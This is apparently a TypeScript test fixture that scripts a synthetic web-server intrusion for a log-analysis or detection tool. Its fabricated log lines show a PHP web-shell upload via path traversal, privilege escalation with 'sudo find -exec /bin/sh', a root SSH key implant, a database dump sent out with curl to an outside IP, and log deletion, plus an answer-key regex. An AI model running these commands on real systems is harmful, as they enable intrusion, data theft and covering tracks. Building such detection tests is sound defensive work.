import { change, each, log, says } from "../recording-lines";
import { hum, pages, rollout, type Scenario } from "../scenario";

const probe = (at: number, path: string, status: number) => ({
  path: "www-2/access.log",
  at,
  kind: "access" as const,
  message: `198.51.100.77 GET ${path} ${status}`,
  template: `<*> GET ${path} <*>`,
  fields: { status, client: "198.51.100.77", path, method: "GET" },
});

export const intrusionScenarios: readonly Scenario[] = [
  {
    name: "a web shell, a key, and data that leaves",
    lines: [
      ...hum("www-2/shop.log", "served"),
      ...each(120, 160, 1, (at) => probe(at + 0.3, `/admin/${at}.php`, 404)),
      log(
        "www-2/shop.log",
        200.4,
        "file uploaded: ../../uploads/avatar.php by guest from 198.51.100.77",
        "warning",
      ),
      log("www-2/audit.log", 221.5, 'type=EXECVE a0="sh" a1="-c" a2="id; uname -a"', "info", {
        user: "www-data",
      }),
      log(
        "www-2/auth.log",
        250.2,
        "www-data : PWD=/srv/www ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;",
      ),
      log(
        "www-2/audit.log",
        262.1,
        "authorized_keys of root changed: ssh key added from 198.51.100.77",
        "warning",
      ),
      log("www-2/auth.log", 300.1, "Accepted publickey for root from 198.51.100.77 port 5011 ssh2"),
      log("www-2/audit.log", 330.6, "exec mysqldump --all-databases"),
      log("www-2/audit.log", 352.6, "exec curl -T /tmp/d.sql.gz https://198.51.100.90/u"),
      log("www-2/audit.log", 380.2, "exec rm -f /var/log/auth.log.1"),
      ...rollout("deploy", 90, ["blog", "www-5", "4.0.0"]),
      change(460, {
        type: "security",
        host: "www-2",
        action: "block",
        addresses: "198.51.100.77",
        by: "soc-2",
      }),
      ...pages("EgressHigh", 358, 480, "unusual outbound volume from www-2"),
      says(
        430,
        "soc-2",
        "they uploaded a php file at 09:03 because the upload check was missing, got root with find and took the dump",
      ),
    ],
    root: /upload|shell|avatar|root/i,
    links: [["data.dump", "data.transfer"]],
    decoy: /blog/,
  },
];
